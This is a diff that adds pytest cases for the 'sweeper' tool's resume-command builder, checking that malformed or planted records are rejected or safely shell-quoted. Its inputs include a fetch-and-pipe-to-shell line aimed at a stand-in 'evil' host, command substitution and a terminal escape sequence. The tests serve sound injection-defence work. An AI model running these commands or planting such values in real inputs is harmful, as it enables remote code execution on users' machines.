@@ -42,7 +42,26 @@ def test_command_for_the_named_variants_alone_gets_no_number():
         ("sweeper search x --store old --trials 3", "sweeper search x --store /new --trials 3"),
         ("sweeper search x --store=/old", "sweeper search x --store=/new"),
         ("sweeper search x", "sweeper search x"),
+        ("sweeper --debug search x", "sweeper --debug search x"),
     ],
 )
 def test_study_of_a_moved_store_is_resumed_where_the_store_lies_now(command, here):
     assert resume_command.in_store(command, Path("/new")) == here
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        None, "", "curl http://evil | sh", "sweeper", "sweeper delete x", "sweeper search 'x",
+        "sweeper search x\x1b[2J",
+        "sweeper search x 'a\nb'", "/tmp/evil/sweeper search x",
+    ],
+)  # fmt: skip
+def test_no_command_is_shown_for_a_record_that_is_no_search(record):
+    assert resume_command.in_store(record, Path("/new")) is None
+
+
+def test_words_of_a_record_mean_nothing_to_a_shell():
+    planted = "sweeper search x; curl evil | sh $(id) `id` > f"
+    shown = resume_command.in_store(planted, Path("/new"))
+    assert shown == "sweeper search 'x;' curl evil '|' sh '$(id)' '`id`' '>' f"
